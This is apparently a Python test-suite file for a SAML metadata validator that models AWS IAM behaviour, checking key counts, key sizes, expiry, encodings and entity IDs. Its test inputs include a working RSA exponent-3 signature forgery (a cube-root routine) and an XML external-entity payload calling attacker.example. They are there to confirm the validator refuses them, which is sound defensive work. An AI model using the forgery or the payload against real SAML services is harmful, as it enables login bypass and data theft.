"""Metadata as IAM would store it: which keys it may hold, what it must say, and until when it holds."""
from mint import *
from suite import Suite

S = Suite("metadata", "metadata documents and the keys that they bring", "documented", ["saml-metadata", "iam-api-saml-provider"])
RESPONSE_TEXT = respond()
DER = certificate("idp")
PLAIN = metadata(key_descriptor(DER))
KEYS_CHECK, KEY, CERTIFICATE, ENTITY, XML, SIZE, ENCODING, UNTIL = (f"saml.metadata.{point}" for point in (
    "keys", "key", "certificate", "entity", "xml", "size", "encoding", "valid-until"))


def accept(name, title, text, response=RESPONSE_TEXT, **options):
    S.accept(name, title, response, metadata=text, **options)


def refuse(name, title, check, text, response=RESPONSE_TEXT, **options):
    options.setdefault("twin", "md-plain")
    options.setdefault("code", "ValidationError" if check == SIZE else "InvalidInput" if check.startswith("saml.metadata.") and check != "saml.metadata.expired" else "InvalidIdentityToken")
    S.refuse(name, title, check, response, metadata=text, **options)


def signed_by(name):
    return respond(how=Signing(key=name))


accept("md-plain", "one key for signing", PLAIN)
accept("md-no-use", "a key without a use serves both", metadata(key_descriptor(DER, use="")))
accept("md-both-uses", "a key for signing and one for encryption", metadata(key_descriptor(DER), key_descriptor(certificate("stranger"), use="encryption")))
refuse("md-encryption-key-signs", "a response signed by the key that is for encryption", "saml.signature.value",
       metadata(key_descriptor(DER), key_descriptor(certificate("stranger"), use="encryption")), signed_by("stranger"), twin="md-both-uses", cites=["saml-metadata", "saml-attacks"])
refuse("md-encryption-alone", "no key but one for encryption", KEYS_CHECK, metadata(key_descriptor(DER, use="encryption")))
refuse("md-no-keys", "no key at all", KEYS_CHECK, metadata().replace("</md:IDPSSODescriptor>", "<!--" + "x" * 1000 + "--></md:IDPSSODescriptor>"))
EIGHT = [key_descriptor(certificate(f"idp-{n}", public=(65537, 2 ** 2047 + 2 * n + 1))) for n in range(7)]
accept("md-eight", "eight keys, the last one signs", metadata(*EIGHT, key_descriptor(DER)), evidence="local", cites=["weir-local"])
refuse("md-nine", "nine keys", KEYS_CHECK, metadata(*EIGHT, key_descriptor(DER), key_descriptor(certificate("idp-next"))), twin="md-eight", evidence="local", cites=["weir-local"])
accept("md-expired-certificate", "a certificate that expired, of which nobody asks", metadata(key_descriptor(certificate("idp", days=30))), evidence="inferred",
       note="AWS is reported not to act on the expiry of certificates in metadata; the page is not in the copy")
accept("md-valid-until", "metadata that hold until tomorrow", metadata(key_descriptor(DER), attributes=' validUntil="2026-03-03T09:00:00Z"'))
NOTE = {"evidence": "inferred", "note": "IAM reports ValidUntil of a provider; whether STS acts on it is not published; it is refused unless a switch passes it over"}
refuse("md-expired", "metadata that held until yesterday", "saml.metadata.expired", metadata(key_descriptor(DER), attributes=' validUntil="2026-03-01T09:00:00Z"'),
       twin="md-valid-until", **NOTE)
accept("md-expired-ignored", "metadata that held until yesterday, where the switch is on", metadata(key_descriptor(DER), attributes=' validUntil="2026-03-01T09:00:00Z"'),
       settings={"ignore_metadata_expiry": True}, **NOTE)
refuse("md-valid-until-edge", "metadata that hold until this instant", "saml.metadata.expired", metadata(key_descriptor(DER), attributes=f' validUntil="{NOW}"'), twin="md-valid-until", **NOTE)
refuse("md-valid-until-no-date", "a validUntil that is no instant", UNTIL, metadata(key_descriptor(DER), attributes=' validUntil="tomorrow"'), twin="md-valid-until")
accept("md-1024", "a key of 1024 bits, the least", metadata(key_descriptor(certificate("bits-1024"))) + " " * 200, signed_by("bits-1024"), cites=["iam-api-saml-provider", "saml-aws-assertions"])
refuse("md-512", "a key of 512 bits", KEY, metadata(key_descriptor(certificate("bits-512"))) + " " * 600, signed_by("bits-512"), twin="md-1024", cites=["iam-api-saml-provider", "saml-aws-assertions"])
LOCAL = {"evidence": "local", "cites": ["saml-attacks", "weir-local"]}
accept("md-8192", "a key of 8192 bits beside the one that signs", metadata(key_descriptor(certificate("wide", public=(65537, 2 ** 8191 + 1))), key_descriptor(DER)), **LOCAL)
refuse("md-8200", "a key of more than 8192 bits, which costs too much to use", KEY, metadata(key_descriptor(certificate("wide", public=(65537, 2 ** 8199 + 1))), key_descriptor(DER)), twin="md-8192", **LOCAL)
refuse("md-16384", "a key of 16384 bits", KEY, metadata(key_descriptor(certificate("wide", public=(65537, 2 ** 16383 + 1))), key_descriptor(DER)), twin="md-8192", **LOCAL)
accept("md-exponent-3", "a public exponent of 3", metadata(key_descriptor(certificate("exponent-3"))), signed_by("exponent-3"), **LOCAL)
MODULUS = key("idp").public_key().public_numbers().n
refuse("md-exponent-wide", "a public exponent of 65 bits, which costs too much to use", KEY, metadata(key_descriptor(certificate("wide", public=(2 ** 64 + 1, MODULUS)))), **LOCAL)
refuse("md-ec", "a key of an elliptic curve", KEY, metadata(key_descriptor(certificate("ec"))) + " " * 400, evidence="inferred", note="IAM asks for X.509 keys of at least 1024 bits; no signature of AWS's is known that is not RSA")


def cube_root(value):
    low, high = 0, 1 << (value.bit_length() // 3 + 2)
    while low < high:
        middle = (low + high) // 2
        if middle ** 3 < value:
            low = middle + 1
        else:
            high = middle
    return low


def forged():
    """A signature for the key with exponent 3 whose cube begins as a PKCS 1 block does and ends in garbage."""
    text = respond(how=Signing(key="exponent-3"))
    octets = canonical.octets(next(parse(text).iter(f"{{{DS}}}SignedInfo")), EXC)
    prefix = bytes.fromhex("003031300d060960864801650304020105000420")[1:]
    block = b"\0\x01\xff\xff\xff\xff\xff\xff\xff\xff\0" + prefix + hashlib.sha256(octets).digest()
    root = cube_root(int.from_bytes(block + bytes(256 - len(block)), "big"))
    assert (root ** 3).to_bytes(256, "big").startswith(block)
    old = text[text.index("<ds:SignatureValue>") + 19:text.index("</ds:SignatureValue>")]
    return change(text, (old, base64_of(root.to_bytes(256, "big"))))


refuse("md-exponent-3-forged", "a cube root that only begins as a signature", "saml.signature.value", metadata(key_descriptor(certificate("exponent-3"))), forged(), twin="md-exponent-3",
       cites=["saml-attacks", "w3c-xmldsig"])
refuse("md-short", "metadata of fewer than 1000 characters", SIZE, metadata(key_descriptor(certificate("bits-1024"))).replace("\n", "").replace("  ", ""), signed_by("bits-1024"), twin="md-1024",
       cites=["aws-models"], evidence="modelled") if len(metadata(key_descriptor(certificate("bits-1024"))).replace("\n", "").replace("  ", "")) < 1000 else None
refuse("md-empty-entity", "metadata of white space", SIZE, "<x/>" + " " * 900, cites=["aws-models"], evidence="modelled")
refuse("md-no-xml", "metadata that are no XML", XML, "hello " * 400)
refuse("md-doctype", "metadata with a DOCTYPE", XML, "<!DOCTYPE md:EntityDescriptor []>" + PLAIN, cites=["saml-attacks", "w3c-xml"])
refuse("md-entity", "metadata with an entity of the network", XML, '<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.example/e">]>' + PLAIN.replace(f'entityID="{ISSUER}"', 'entityID="&e;"'), cites=["saml-attacks", "w3c-xml"])
refuse("md-cut", "metadata cut short", XML, PLAIN[:-8])
refuse("md-bom", "metadata with a byte order mark", ENCODING, "\ufeff" + PLAIN, cites=["saml-aws-assertions", "iam-api-saml-provider"])
refuse("md-root", "another root", ENTITY, PLAIN.replace("md:EntityDescriptor", "md:EntitiesDescriptor"))
refuse("md-entities", "several entities", ENTITY, f'<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">{PLAIN}{PLAIN}</md:EntitiesDescriptor>')
refuse("md-no-idp", "a service provider's metadata", ENTITY, PLAIN.replace("md:IDPSSODescriptor", "md:SPSSODescriptor"))
refuse("md-no-entity-id", "metadata without an entityID", "saml.metadata.entity-id", PLAIN.replace(f' entityID="{ISSUER}"', ""))
refuse("md-entity-id-empty", "an empty entityID", "saml.metadata.entity-id", PLAIN.replace(f'entityID="{ISSUER}"', 'entityID=""'))
refuse("md-entity-id-long", "an entityID of 1025 characters", "saml.metadata.entity-id", PLAIN.replace(f'entityID="{ISSUER}"', f'entityID="{"e" * 1025}"'))
refuse("md-certificate-junk", "a certificate that is none", CERTIFICATE, PLAIN.replace(base64_of(DER), base64_of(DER[:-40] + bytes(7))))
refuse("md-certificate-no-base64", "a certificate that is no base64", CERTIFICATE, PLAIN.replace(base64_of(DER), "!" + base64_of(DER)[1:]))
refuse("md-certificate-tail", "octets behind a certificate", CERTIFICATE, PLAIN.replace(base64_of(DER), base64_of(DER + b"\0\0\0")))
accept("md-certificate-lines", "a certificate in lines", PLAIN.replace(base64_of(DER), "\n".join(base64_of(DER)[i:i + 64] for i in range(0, len(base64_of(DER)), 64))))
accept("md-signed", "metadata with a signature, which IAM stores and does not read", PLAIN.replace("<md:IDPSSODescriptor", f'<ds:Signature xmlns:ds="{DS}"><ds:SignedInfo/></ds:Signature><md:IDPSSODescriptor'), evidence="inferred",
       note="saml-metadata lets metadata be signed; IAM says nothing of it; the document comes from the account's own administrator")
accept("md-sp-beside", "a service provider's role beside the identity provider's", PLAIN.replace("</md:EntityDescriptor>",
       f'<md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">{key_descriptor(certificate("stranger"))}</md:SPSSODescriptor></md:EntityDescriptor>'))
refuse("md-sp-key-signs", "a response signed by the key of the service provider's role", "saml.signature.value", PLAIN.replace("</md:EntityDescriptor>",
       f'<md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">{key_descriptor(certificate("stranger"))}</md:SPSSODescriptor></md:EntityDescriptor>'), signed_by("stranger"), twin="md-sp-beside")
PRIVATE = {"cites": ["iam-saml-encryption"]}
refuse("md-private-junk", "a private key that is none", "saml.metadata.private-key", PLAIN, decryption_keys=["hello"], message="Invalid private key.", **PRIVATE)
refuse("md-private-ec", "a private key of an elliptic curve", "saml.metadata.private-key", PLAIN, decryption_keys=[private_pem("ec")], **PRIVATE)
refuse("md-private-public", "a public key in place of the private one", "saml.metadata.private-key", PLAIN, decryption_keys=[public_pem("reader")], **PRIVATE)
accept("md-private-two", "two private keys", PLAIN, decryption_keys=[private_pem("reader"), private_pem("reader-next")], **PRIVATE)
refuse("md-private-three", "three private keys", "saml.metadata.private-keys", PLAIN, decryption_keys=[private_pem("reader"), private_pem("reader-next"), private_pem("stranger")],
       code="LimitExceeded", message="Private key limit of 2 is reached.", twin="md-private-two", **PRIVATE)
refuse("md-required-no-key", "encryption required and no private key", "saml.metadata.mode", PLAIN, settings={"assertion_encryption_mode": "Required"},
       message="Unable to set assertion encryption mode to Required because no private key is provided.", **PRIVATE)
SUPPORTED = ' protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"'
refuse("md-no-protocols", "a role that says no protocol", ENTITY, PLAIN.replace(SUPPORTED, ""))
refuse("md-protocols-empty", "a role whose list of protocols is empty", ENTITY, PLAIN.replace(SUPPORTED, ' protocolSupportEnumeration=""'))
refuse("md-protocol-saml1", "a role for SAML 1.1", ENTITY, PLAIN.replace(SUPPORTED, ' protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol"'))
accept("md-protocols-two", "a role for SAML 1.1 and 2.0", PLAIN.replace(SUPPORTED, ' protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol urn:oasis:names:tc:SAML:2.0:protocol"'))
